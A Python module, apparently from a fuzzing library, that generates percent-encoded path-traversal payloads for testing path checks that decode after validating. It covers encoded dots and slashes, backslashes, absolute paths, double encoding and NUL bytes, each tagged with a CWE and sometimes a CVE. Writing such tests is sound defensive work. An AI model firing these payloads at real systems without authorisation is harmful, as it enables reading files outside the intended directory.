"""Climbs behind one percent decoding: harmless names until somebody decodes after the check."""

from collections.abc import Iterator

from capfuzz.attacks.techniques.compose import FOLDER, base, late, straight, way, ways
from capfuzz.attacks.techniques.registry import Kind, technique

_DECODES = "percent-decodes the path after the check (CWE-180)"
_GROUP = "decoding"


@technique(
    "percent-dots",
    kind=Kind.PATH,
    group=_GROUP,
    cwe="CWE-177",
    needs=_DECODES,
    refs=("CVE-2014-3744",),
)
def percent_dots(root: str, target: str) -> Iterator[str]:
    """Encode both dots of each climb, in lower and upper case, and leave the slashes."""
    yield from ways(root, target, "%2e%2e/", "%2E%2E/")


@technique(
    "percent-one-dot",
    kind=Kind.PATH,
    group=_GROUP,
    cwe="CWE-177",
    needs=f"{_DECODES}, having looked for two plain or two encoded dots only",
    refs=("CVE-2021-41773",),
)
def percent_one_dot(root: str, target: str) -> Iterator[str]:
    """Encode one of the two dots, the second or the first."""
    yield from ways(root, target, ".%2e/", "%2e./")


@technique(
    "percent-slash",
    kind=Kind.PATH,
    group=_GROUP,
    cwe="CWE-177",
    needs=f"{_DECODES}, having split it on plain slashes",
)
def percent_slash(root: str, target: str) -> Iterator[str]:
    """Encode the slashes, so that ``..`` is not a segment of its own until it is decoded."""
    ups, down = way(root, target)
    yield straight(root, target, "..%2f")
    yield late(root, target, "..%2F")
    yield f"{base(root)}/{'..%2f' * ups}{'%2f'.join(down)}"
    yield f"{base(root)}/{FOLDER}%2f{'..%2f' * (ups + 1)}{'%2f'.join(down)}"


@technique(
    "percent-dots-and-slash",
    kind=Kind.PATH,
    group=_GROUP,
    cwe="CWE-177",
    needs=_DECODES,
)
def percent_dots_and_slash(root: str, target: str) -> Iterator[str]:
    """Encode dots and slashes alike, in lower, upper and mixed case."""
    yield from ways(root, target, "%2e%2e%2f", "%2E%2E%2F", "%2e%2E%2f", slash="%2f")


@technique(
    "percent-backslash",
    kind=Kind.PATH,
    group="decoding",
    cwe="CWE-177",
    needs=r"percent-decodes after the check and takes \ for a separator",
    refs=("CVE-2007-0450",),
)
def percent_backslash(root: str, target: str) -> Iterator[str]:
    """Encode backslashes in place of slashes, with the dots plain and encoded."""
    yield from ways(root, target, "..%5c", "%2e%2e%5c", "..%5C", slash="%5c")


@technique(
    "percent-everything",
    kind=Kind.PATH,
    group=_GROUP,
    cwe="CWE-177",
    needs=f"{_DECODES}, having matched plain names against a deny-list",
)
def percent_everything(root: str, target: str) -> Iterator[str]:
    """Encode every character after the root, letters too."""
    ups, down = way(root, target)
    yield f"{base(root)}/{percent('../' * ups + '/'.join(down))}"


@technique(
    "percent-absolute",
    kind=Kind.PATH,
    group="decoding",
    cwe="CWE-36",
    needs="joins the decoded rest to the root with a join that lets an absolute path win",
    refs=("CVE-2025-47273",),
)
def percent_absolute(root: str, target: str) -> Iterator[str]:
    """Encode an absolute path as a name below the root."""
    yield f"{base(root)}/{target.replace('/', '%2f')}"
    yield f"{base(root)}/%2f{target.lstrip('/')}"


@technique(
    "percent-folder-dots",
    kind=Kind.PATH,
    group=_GROUP,
    cwe="CWE-177",
    needs="decodes after the check and resolves a path that ends on ..",
)
def percent_folder_dots(root: str, target: str) -> Iterator[str]:
    """End on encoded dots, so that a folder outside is named."""
    del target
    yield f"{base(root)}/%2e%2e"
    yield f"{base(root)}/{FOLDER}%2f%2e%2e%2f%2e%2e"


@technique(
    "percent-nul",
    kind=Kind.PATH,
    group="decoding",
    cwe="CWE-158",
    needs="percent-decodes after the check and hands the result to code that stops at NUL",
)
def percent_nul(root: str, target: str) -> Iterator[str]:
    """Encode NUL before a harmless ending, with the climb plain and encoded."""
    yield f"{straight(root, target, '%2e%2e/')}%00.txt"
    yield f"{late(root, target, '%2e%2e/')}%00"
    yield f"{straight(root, target, '.%00./')}"
    yield f"{base(root)}/data.txt%00/%2e%2e/%2e%2e{target}"
    yield f"{straight(root, target, '%252e%252e/')}%2500.txt"


def percent(text: str) -> str:
    """Encode every byte of ``text`` as ``%xx``."""
    return "".join(f"%{byte:02x}" for byte in text.encode())
